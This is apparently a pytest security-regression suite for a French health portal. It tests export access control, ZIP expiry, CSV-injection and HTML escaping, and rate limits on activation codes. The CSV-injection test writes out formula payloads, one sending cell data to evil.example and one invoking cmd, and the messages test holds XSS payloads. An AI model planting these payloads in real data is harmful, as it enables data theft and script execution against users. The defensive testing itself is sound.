"""Hostile tries against issue 17's new doors: the data export (another requester's ZIP, a ZIP
past its 7 days, formulas in the CSV files, markup in the messages page) and the activation
codes (a new code asked again and again). Each test names the hole it closes."""
import csv
import io
import json
import zipfile
from datetime import timedelta, timezone

import pytest
import time_machine
from conftest import account, hidden_fields, journal, open_space, outbox

pytestmark = pytest.mark.db


def ask_export(client):
    page = client.get("/mes-donnees/")
    assert page.status_code == 200
    return client.post("/mes-donnees/demander", data=hidden_fields(page))


def last_export(person_id):
    from portal.export.models import ExportJob
    return ExportJob.select().where(ExportJob.patient == person_id).order_by(
        ExportJob.id.desc()).first()


def unzip(response):
    assert response.status_code == 200, response.status_code
    return zipfile.ZipFile(io.BytesIO(response.data))


@pytest.fixture
def amina_under_tutelle(ctx, person):
    """Amina (an adult with her own account) under Camille's tutelle: two accounts reach her
    space with the "export" scope, and see different things in it."""
    from portal.accounts.models import utcnow
    from portal.proxies.models import Guardianship
    Guardianship.create(guardian=person("Camille"), ward=person("Amina"), kind="tutelle",
                        accepted_at=utcnow())
    return person("Amina")


def test_a_representative_cannot_take_the_zip_the_holder_built_for_herself(
        app, login_as, amina_under_tutelle):
    """Hole: downloads were scoped to the space only, so Camille (tutelle) could fetch, by its
    id, the ZIP Amina built for herself, which holds the documents hidden from legal
    representatives; and her page offered it as hers. And Amina's export of the day refused
    Camille's (telling her when Amina took one)."""
    from portal.documents.models import Document
    amina = amina_under_tutelle
    secret = Document.select().where(Document.patient == amina.id).first()
    Document.update(hidden_from_guardians=True).where(Document.id == secret.id).execute()
    holder = login_as("amina")
    assert ask_export(holder).status_code == 303
    job = last_export(amina.id)
    assert job.status == "done", job.error
    own = unzip(holder.get(f"/mes-donnees/{job.id}/fichier"))
    assert any(f"-{secret.id:05d}-" in name for name in own.namelist())

    tutor = login_as("camille")
    assert open_space(tutor, amina.id).status_code == 302
    assert tutor.get(f"/mes-donnees/{job.id}/fichier").status_code == 404
    page = tutor.get("/mes-donnees/").get_data(as_text=True)
    assert f"/mes-donnees/{job.id}/fichier" not in page
    # Her own export of Amina's space (at once: Amina's of today does not hold it back)
    # leaves the hidden document out.
    assert ask_export(tutor).status_code == 303
    hers = last_export(amina.id)
    assert hers.requested_by_id == account("camille").id and hers.status == "done"
    names = unzip(tutor.get(f"/mes-donnees/{hers.id}/fichier")).namelist()
    assert not any(f"-{secret.id:05d}-" in name for name in names)
    # …and Amina cannot take the copy made for her tutor either (it is the tutor's).
    assert holder.get(f"/mes-donnees/{hers.id}/fichier").status_code == 404


def test_a_zip_past_its_seven_days_is_refused_even_before_the_purge_runs(app, login_as, person):
    """Hole: the download checked only the status, so between the 7th day and the hourly
    purge (or for as long as the purge was down) the expired ZIP still came out."""
    from portal.export.models import ExportJob
    client = login_as("camille")
    assert ask_export(client).status_code == 303
    job = last_export(person("Camille").id)
    expires = job.expires_at.replace(tzinfo=timezone.utc)
    with time_machine.travel(expires + timedelta(minutes=1), tick=False):
        client = login_as("camille")
        refused = client.get(f"/mes-donnees/{job.id}/fichier")
        assert refused.status_code == 303
        assert "n’est plus disponible" in client.get("/mes-donnees/").get_data(as_text=True)
    assert ExportJob.get_by_id(job.id).status == "done"  # the purge did not run
    assert not journal("export.download", object_id=str(job.id))


def test_no_csv_cell_of_the_export_is_a_formula(app, login_as, person):
    """Hole: names typed by people went into the CSV files as they were, so a caregiver whose
    name reads "=HYPERLINK(…)" became a live formula in the spreadsheet where the person opens
    the journal of their space (CSV injection)."""
    from portal.accounts.models import Person
    camille, jean = person("Camille"), person("Jean")
    formulas = ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|'/c calc'!A0")
    Person.update(given_names=formulas[0], family_name=formulas[1]).where(
        Person.id == camille.id).execute()
    caregiver = login_as("camille")
    assert open_space(caregiver, jean.id).status_code == 302
    assert caregiver.get("/dossier/documents/").status_code == 200  # journaled with her name
    holder = login_as("jean")
    assert ask_export(holder).status_code == 303
    archive = unzip(holder.get(f"/mes-donnees/{last_export(jean.id).id}/fichier"))
    cells = []
    for name in ("journal/historique.csv", "mesures/mesures.csv"):
        data = archive.read(name).decode("utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(data), delimiter=";") for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # her name is there…
    dangerous = [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous  # …never as a formula
    assert "'" + formulas[0] + " " + formulas[1] in cells


def test_the_history_csv_holds_no_formula_either(app, login_as, person):
    """The same hole in the history page's own CSV export (the same rows): closed by the same
    mechanism (portal/spreadsheet.py)."""
    from portal.accounts.models import Person
    camille, jean = person("Camille"), person("Jean")
    Person.update(given_names="@SUM(1)", family_name="-1").where(Person.id == camille.id).execute()
    caregiver = login_as("camille")
    assert open_space(caregiver, jean.id).status_code == 302
    assert caregiver.get("/dossier/documents/").status_code == 200
    exported = login_as("jean").get("/dossier/historique/export.csv")
    assert exported.status_code == 200
    cells = [cell for line in csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip(
        "\ufeff")), delimiter=";") for cell in line]
    assert "'@SUM(1) -1" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_a_message_with_markup_is_text_in_the_messages_page(app, login_as, person):
    """A message body, subject or author holding <script> stays text in messages.html."""
    from portal.messaging.models import Conversation, Message
    camille = person("Camille")
    conversation = Conversation.select().where(Conversation.patient == camille.id).first()
    Conversation.update(subject="<script>alert('s')</script>").where(
        Conversation.id == conversation.id).execute()
    message = Message.select().where(Message.conversation == conversation.id).first()
    Message.update(body="<img src=x onerror=alert(1)>\n<script>alert(2)</script>").where(
        Message.id == message.id).execute()
    client = login_as("camille")
    assert ask_export(client).status_code == 303
    archive = unzip(client.get(f"/mes-donnees/{last_export(camille.id).id}/fichier"))
    page = archive.read("messages/messages.html").decode()
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page
    texts = [m["text"] for c in json.loads(archive.read("messages/messages.json"))[
        "conversations"] for m in c["messages"]]
    assert "<img src=x onerror=alert(1)>\n<script>alert(2)</script>" in texts  # JSON: as typed


def test_asking_new_codes_again_and_again_sends_no_flood(app, ctx):
    """Hole: only wrong answers counted on /activation/nouveau-code, so whoever held a letter
    (the reference stays valid after each new code) could ask, from any number of addresses,
    for an e-mail after e-mail, each one voiding the code the person had just received. Now a
    person gets at most NEW_CODE_LIMIT new codes online; past it, a French message and no
    e-mail, and the last code keeps working."""
    import re

    from conftest import csrf_from, text
    from lifecycle.test_announcements import MAILED_NIR, imported, someone
    from portal.accounts.invites import usable_code
    imported(app)
    marc = someone(MAILED_NIR)
    first = outbox("marc.petit@example.org")[0].body
    reference = re.search(r"R-([A-Z0-9]{7})", first).group(0)
    limit = int(app.config["NEW_CODE_LIMIT"].split()[0])
    for n in range(limit + 2):
        environ = {"REMOTE_ADDR": f"203.0.113.{n + 1}"}  # a new address each time
        client = app.test_client()
        page = client.get("/activation/nouveau-code", environ_base=environ)
        response = client.post("/activation/nouveau-code", environ_base=environ, data={
            "csrf_token": csrf_from(page), "nir": marc.nir, "birth_date": "03/01/1990",
            "reference": reference})
        if n < limit:
            assert response.status_code == 303
    assert response.status_code == 429
    assert "déjà demandé plusieurs nouveaux codes" in text(response)
    mails = outbox("marc.petit@example.org")
    assert len(mails) == 1 + limit
    last = re.search(r"\b([A-Z0-9]{4}-[A-Z0-9]{4}-[A-Z0-9]{4})\b", mails[-1].body).group(1)
    with app.app_context():
        assert usable_code(last) is not None


def test_a_mediator_cannot_print_counter_letters_without_end(app, ctx, login_as):
    """Hole: a France Services mediator (less trusted than the insurer's operators) could print
    letter after letter at /guichet/nouveau-code, for anyone whose NIR and birth date they had,
    each voiding the code the person had been sent, with no limit. Now a mediator prints at
    most COUNTER_CODE_LIMIT_MEDIATOR letters; past it, a French message (429) and no code."""
    from conftest import csrf_from, text
    from lifecycle.test_announcements import PARENT_NIR, code_for, imported, someone
    from portal.accounts.invites import usable_code
    from portal.accounts.models import ActivationInvite
    app.config["COUNTER_CODE_LIMIT_MEDIATOR"] = "2 per day"
    imported(app)
    aline = someone(PARENT_NIR)
    mediator = login_as("sophie")

    def counter(client):
        page = client.get("/guichet/nouveau-code")
        return client.post("/guichet/nouveau-code", data={
            "csrf_token": csrf_from(page), "nir": aline.nir, "birth_date": "14/05/1985",
            "checked": "y"})
    for _ in range(2):
        assert counter(mediator).headers["Content-Type"] == "application/pdf"
    _invite, kept = code_for(app, aline)  # the letter the person then received
    before = ActivationInvite.select().count()
    refused = counter(mediator)
    assert refused.status_code == 429
    assert "déjà imprimé" in text(refused)
    assert ActivationInvite.select().count() == before
    with app.app_context():
        assert usable_code(kept) is not None
    assert journal("activation.counter_identity_checked", outcome="denied", patient=aline.id)
    # An operator of the insurer is not held by the mediators' limit.
    assert counter(login_as("operateur")).headers["Content-Type"] == "application/pdf"


def test_two_export_requests_at_once_make_one_job(app, ctx, person, monkeypatch):
    """Hole (PostgreSQL): "one export at a time" was checked then created in a transaction
    that, on PostgreSQL, locks nothing (SQLite's BEGIN IMMEDIATE does), so two requests at
    the same moment (two tabs, a double click through a slow proxy) both saw no export running
    and both queued one. Both requests here read at the same moment (a barrier in the check);
    the space's row is now locked first, so the second waits and is refused."""
    import threading

    from portal.export import service, tasks
    from portal.extensions import db
    monkeypatch.setattr(tasks, "build_export", lambda job_id: None)  # not built: only counted
    together = threading.Barrier(2, timeout=1.5)
    checked = service.refusal

    def refusal_at_the_same_moment(*args, **kwargs):
        try:
            together.wait()
        except threading.BrokenBarrierError:
            pass  # the other request holds the lock and cannot reach the barrier: go on
        return checked(*args, **kwargs)
    monkeypatch.setattr(service, "refusal", refusal_at_the_same_moment)
    camille, holder = person("Camille"), account("camille")
    db.close()
    answers, errors = [], []

    def ask():
        try:
            with app.app_context():
                db.connect(reuse_if_open=True)
                try:
                    answers.append(service.request_export(camille, holder))
                finally:
                    db.close()
        except Exception as error:  # noqa: BLE001 - reported by the assertion below
            errors.append(error)
    threads = [threading.Thread(target=ask) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(20)
    db.connect(reuse_if_open=True)
    assert not errors, errors
    assert sorted(refused is None for _job, refused in answers) == [False, True]
    assert last_export(camille.id) is not None
    from portal.export.models import ExportJob
    assert ExportJob.select().where(ExportJob.patient == camille.id).count() == 1


def test_an_invitation_voided_meanwhile_opposes_nothing(app, ctx):
    """Race hole: the opposition's one-time use (a conditional UPDATE) did not check that the
    invitation was still unexpired, unlike the activation's; a code voided by a new one
    between the form's check and the write (a new code asked, a counter letter printed)
    still closed the space. Now both writes hold the same conditions."""
    from lifecycle.test_announcements import PARENT_NIR, imported, someone
    from portal.accounts.invites import issue_code
    from portal.lifecycle.models import SpaceClosure
    from portal.lifecycle.service import oppose
    imported(app)
    aline = someone(PARENT_NIR)
    with app.test_request_context():
        old, _code = issue_code(aline)
        issue_code(aline)  # a new code: the old one stops working now
        assert oppose(old, "fr") is None
    assert not SpaceClosure.select().where(SpaceClosure.person == aline.id).exists()
